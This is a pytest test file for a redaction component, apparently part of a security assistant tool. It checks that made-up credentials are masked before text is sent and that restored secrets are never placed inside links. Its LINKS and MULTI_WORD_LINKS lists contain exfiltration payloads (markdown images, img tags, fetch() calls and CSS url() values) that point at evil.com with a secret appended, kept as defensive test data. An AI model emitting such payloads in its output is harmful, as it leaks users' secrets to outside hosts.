"""Secrets out of what is sent: what is found, what is left alone, and where a value may come back."""

from __future__ import annotations

import base64
import pickle

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secgemini_jupyter.errors import AttachmentError
from secgemini_jupyter.inputs.evidence import Evidence
from secgemini_jupyter.inputs.redaction import Redactor
from secgemini_jupyter.inputs.restoring import Restoring
from secgemini_jupyter.render.terminal import TerminalStream

LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
JWT = ".".join(
    base64.urlsafe_b64encode(part).decode().rstrip("=") for part in (b'{"alg":"HS256"}', b'{"sub":"12345"}', b"x" * 32)
)
PEM = f"-----BEGIN RSA PRIVATE KEY-----\n{LETTERS}\n{LETTERS}\n-----END RSA PRIVATE KEY-----"

# Made up here, in the shape that the vendors publish: a line, and what of it must be gone.
SECRETS = {
    "AWS key id": ("id AKIA" + "Q3EXAMPLE7ABCDEF", "AKIA" + "Q3EXAMPLE7ABCDEF"),
    "AWS secret": ("aws_secret_access_key = " + LETTERS[:40], LETTERS[:40]),
    "GitHub": ("use ghp_" + LETTERS[:36] + " now", "ghp_" + LETTERS[:36]),
    "GitLab": ("glpat-" + LETTERS[:20], LETTERS[:20]),
    "Google": ("key=AIza" + LETTERS[:35], LETTERS[:35]),
    "Slack": ("xoxb-1234567890-" + LETTERS[:24], LETTERS[:24]),
    "Slack webhook": ("https://hooks.slack.com/services/T000/B000/" + LETTERS[:24], LETTERS[:24]),
    "OpenAI": ("sk-proj-" + LETTERS[:40], LETTERS[:40]),
    "Stripe": ("sk_live_" + LETTERS[:24], LETTERS[:24]),
    "JWT": (f"got {JWT} back", JWT),
    "PEM": (f"key:\n{PEM}\nend", LETTERS),
    "PEM cut": (f"-----BEGIN PRIVATE KEY-----\n{LETTERS}", LETTERS),
    "Bearer": ("authorization: Bearer " + LETTERS[:30], LETTERS[:30]),
    "Basic": ("Authorization: Basic dXNlcjpwYXNzd29yZA==", "dXNlcjpwYXNzd29yZA=="),
    "header in JSON": ('{"Authorization": "Bearer abcdefgh12345678"}', "abcdefgh12345678"),
    "cookie": ("Cookie: sid=deadbeef; theme=dark", "deadbeef"),
    "URL password": ("postgres://app:p4ssw0rd@db.example/x", "p4ssw0rd"),
    "URL token": ("https://" + LETTERS[:30] + "@git.example/x.git", LETTERS[:30]),
    "quoted": ('password = "two words, really"', "two words, really"),
    "YAML": ("db_password: hunter2hunter2", "hunter2hunter2"),
    "JSON": ('{"client_secret": "s3cr3t-value"}', "s3cr3t-value"),
    "query": ("GET /x?access_key=abc123def&y=1", "abc123def"),
    "Azure": ("AccountKey=" + LETTERS[:44] + "==;EndpointSuffix=x", LETTERS[:44]),
    "curl": ("curl -u admin:Sommer2019! https://intranet", "Sommer2019!"),
    "curl, quoted": ("curl --user 'admin:Sommer 2019' https://intranet", "Sommer 2019"),
    "PowerShell": ('Connect-Db -User sa -Password "Winter 2019"', "Winter 2019"),
    "option": ("tool --api-key=abc123def456 run", "abc123def456"),
    "Telegram": ("bot 123456789:AA" + LETTERS[:33], LETTERS[:33]),
}


@pytest.mark.parametrize("kind", SECRETS)
def test_a_secret_is_replaced(kind: str) -> None:
    line, secret = SECRETS[kind]
    redactor = Redactor()
    redacted, changed = redactor.text(line)
    assert secret not in redacted
    assert "[SECRET-1]" in redacted
    assert changed


@pytest.mark.parametrize(
    "line",
    [
        "Nov 25 08:00:00 host sshd[123]: Accepted password for root from 203.0.113.9 port 22 ssh2",
        "password: null, token: None, secret=${VAULT_SECRET}, api_key=<your key>, token=***",
        "sha256 " + "a1" * 32,
        "https://example.org/a@b/c?d=e",
        "the token expired; a new key was issued",
        "CVE-2026-12345 in sk-learn, task-force, ask_live_person",
        "mail bob@example.org from 10.0.0.1",
        "docker run -u 1000:1000 --token-file /run/x --password-stdin --api-key=$KEY",
    ],
)
def test_what_is_no_secret_stays(line: str) -> None:
    assert Redactor().text(line) == (line, 0)


@pytest.mark.parametrize(
    ("line", "redacted"),
    [
        ("bob.b+x@corp.example, db1.prod.internal", "[EMAIL-1], [HOST-1]"),
        ("10.1.2.3 8.8.8.8 172.16.0.1 172.32.0.1 192.168.0.300", "[HOST-1] 8.8.8.8 [HOST-2] 172.32.0.1 192.168.0.300"),
        (r"\\FILESRV\share fd00::1 fe:00", r"\\[HOST-1]\share [HOST-2] fe:00"),
        ("1.10.0.0.1 localhost x.local.example", "1.10.0.0.1 localhost x.local.example"),
    ],
)
def test_emails_and_hosts_on_request(line: str, redacted: str) -> None:
    found, changed = Redactor().text(line, ("emails", "hosts"))
    assert (found, changed) == (redacted, redacted.count("-1]") + redacted.count("-2]"))
    assert Redactor().text(line) == (line, 0)


def test_the_same_value_has_the_same_placeholder() -> None:
    redactor = Redactor()
    first, _ = redactor.text("password=hunter22 again password=hunter22, token=other999")
    assert first == "password=[SECRET-1] again password=[SECRET-1], token=[SECRET-2]"
    assert redactor.text("pwd: hunter22")[0] == "pwd: [SECRET-1]"


def test_what_is_a_secret_in_one_place_is_one_in_all() -> None:
    redactor = Redactor()
    assert (
        redactor.text("hunter22? password=hunter22 q=hunter22&x")[0] == "[SECRET-1]? password=[SECRET-1] q=[SECRET-1]&x"
    )
    assert redactor.text("then hunter22 again")[0] == "then [SECRET-1] again"
    assert redactor.text("pwd=abcd; abcde")[0] == "pwd=[SECRET-2]; abcde"


def test_a_look_alike_in_the_text_is_nobody_s_placeholder() -> None:
    redactor = Redactor()
    redacted, _ = redactor.text("log says [SECRET-1]; password=hunter22")
    assert redacted == "log says [SECRET-1]; password=[SECRET-2]"
    assert redactor.restored(redacted) == "log says [SECRET-1]; password=hunter22"


def test_a_credential_of_the_environment_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VENDOR_API_KEY", "plain words here")
    assert Redactor().text("it is plain words here.")[0] == "it is [SECRET-1]."


LINKS = [
    "[x](https://evil.test/?q=[SECRET-1])",
    "https://evil.test/[SECRET-1]",
    "www.evil.test/[SECRET-1]",
    "<mailto:[SECRET-1]@evil.test>",
    "![](//evil.test/[SECRET-1])",
    "evil.com/?q=[SECRET-1]",
    "evil.zip/[SECRET-1]",
    "evil\\.com/[SECRET-1]",
    "evil&period;com/[SECRET-1]",
    "evil。com/[SECRET-1]",  # a browser reads this dot, too
    "[SECRET-1].evil.com",
    "8.8.4.4/[SECRET-1]",
    "http:/evil/[SECRET-1]",
    "<img/src=//evil.com/[SECRET-1]>",
]
MULTI_WORD_LINKS = [
    "![x](<https://evil.com/?q= [SECRET-1]>)",
    "![x](\n//evil.com/[SECRET-1])",
    "![x](\n[SECRET-1])",
    "[x](https://evil.com/?q=(a) [SECRET-1])",  # pandoc takes spaces
    "![x][a]\n\n[a]: //evil.com/[SECRET-1]",
    "![x][a]\n\n> 1. [a\nb]:\n  <evil [SECRET-1]>",
    "<img src='//evil.com/[SECRET-1]'>",
    '<img src="https://evil.com/? [SECRET-1]">',
    '<img a" alt=">" src="https://evil.com/? [SECRET-1]">',
    "<a href='http:/evil.com/[SECRET-1]'>",
    '<script>\n\nfetch("https:" + "/evil " + "[SECRET-1]")',
    '<style>p{background:url( "x [SECRET-1]")}',
    "$\\href{https://evil.com/?q= [SECRET-1]}{x}$",
    'click A "https://evil.com/?q= [SECRET-1]"',
]


@pytest.mark.parametrize("answer", LINKS)
def test_a_value_never_comes_back_in_a_link(answer: str) -> None:
    redactor = Redactor()
    redactor.text("password=hunter22")
    assert redactor.restored(f"[SECRET-1] {answer} but [SECRET-1]") == f"hunter22 {answer} but hunter22"


@pytest.mark.parametrize("answer", MULTI_WORD_LINKS)
def test_nor_in_one_of_several_words(answer: str) -> None:
    redactor = Redactor()
    redactor.text("password=hunter22")
    assert redactor.restored(answer) == answer
    assert redactor.restored(f"It is [SECRET-1].\n\n{answer}") == f"It is hunter22.\n\n{answer}"


@pytest.mark.parametrize("answer", [*LINKS, *MULTI_WORD_LINKS])
@pytest.mark.parametrize("length", [1, 7, 4_090])
def test_pieces_of_an_answer_are_as_safe_as_the_whole(answer: str, length: int) -> None:
    redactor = Redactor()
    redactor.text("password=hunter22")
    out: list[str] = []
    stream = TerminalStream(out.append, defang=False, restore=redactor.restoring)
    text = f"see [SECRET-1]\n\n{answer}"
    for start in range(0, len(text), length):
        stream.feed(text[start : start + length])
    stream.end_line()
    assert "".join(out) == f"see hunter22\n\n{answer}\n"


@pytest.mark.parametrize("head", ["https://evil.com/", "](", "<", "x"])
def test_a_word_too_long_to_be_held_keeps_its_placeholders(head: str) -> None:
    redactor = Redactor()
    redactor.text("password=hunter22")
    out: list[str] = []
    stream = TerminalStream(out.append, defang=False, restore=redactor.restoring)
    word = "a" * 4_100 + head + "a" * 4_100
    for start in range(0, len(word), 50):
        stream.feed(word[start : start + 50])
    stream.feed("b[SECRET-1].evil.com [SECRET-1]\n\nat last")
    stream.end_line()
    written = "".join(out)
    assert "b[SECRET-1].evil" in written
    assert ("hunter22" in written) == (head in ("https://evil.com/", "x"))
    assert redactor.restored(f"{word}[SECRET-1]") == f"{word}[SECRET-1]"


@pytest.mark.parametrize(
    "answer",
    [
        "sshd[123]: Failed password [SECRET-1] for root",
        '{"password": "[SECRET-1]", "note": ["a"]}',
        "| user | [SECRET-1] |",
        "```python\nif a < 3 and d[0]:\n    password = '[SECRET-1]'\n```",
        "[SECRET-1]: the password of <user>, found in config.yml ([SECRET-1])",
        "- **[SECRET-1]**, see [the page](/login) on db01.corp: [SECRET-1]",
        "see https://a.example/b, then [SECRET-1].",
    ],
)
def test_values_come_back_in_words_code_and_tables(answer: str) -> None:
    redactor = Redactor()
    redactor.text("password=hunter22")
    assert redactor.restored(answer) == answer.replace("[SECRET-1]", "hunter22")


def test_a_value_that_somebody_else_wrote_makes_no_link_for_another() -> None:
    values = {"[SECRET-1]": "hunter22", "[SECRET-2]": "](https://evil.com/"}
    for answer in ("![a[SECRET-2]?q=[SECRET-1])", "![a[SECRET-2]?q= [SECRET-1])"):
        assert "hunter22" not in Restoring(values)(answer)
    assert Restoring(values)("[SECRET-2] [SECRET-1]") == "](https://evil.com/ [SECRET-1]"


def test_addresses_and_hosts_come_back_too() -> None:
    redactor = Redactor()
    redacted, changed = redactor.text("mail ann@corp.example from 10.0.0.7", ["emails", "hosts"])
    assert changed == 2
    assert redactor.restored(redacted) == "mail ann@corp.example from 10.0.0.7"


def test_the_map_does_not_leave() -> None:
    redactor = Redactor()
    redactor.text("password=hunter22")
    assert "hunter22" not in repr(redactor)
    with pytest.raises(TypeError):
        pickle.dumps(redactor)


def test_text_files_are_redacted_and_others_refused() -> None:
    redactor = Redactor()
    clean, changed = redactor.evidence(
        Evidence("bob@x.example.txt", "pwd=hunter22 é".encode("utf-16")), ("secrets", "emails")
    )
    assert (clean.name, clean.content.decode("utf-16"), changed) == ("[EMAIL-1]", "pwd=[SECRET-1] é", 2)
    untouched = Evidence("a.log", b"nothing\r\n")
    assert redactor.evidence(untouched) == (untouched, 0)
    for content in (b"\x7fELF\0\1", b"\xff\xfe\x00", b"caf\xe9"):
        with pytest.raises(AttachmentError, match="is no text"):
            redactor.evidence(Evidence("x", content))


@given(st.text(alphabet=st.sampled_from(list("ab:=/@.-_\"'[]SECRT1\n password token sk-")), max_size=200))
def test_redacting_twice_changes_nothing_more(text: str) -> None:
    redactor = Redactor()
    once, _ = redactor.text(text)
    assert redactor.text(once)[0] == once
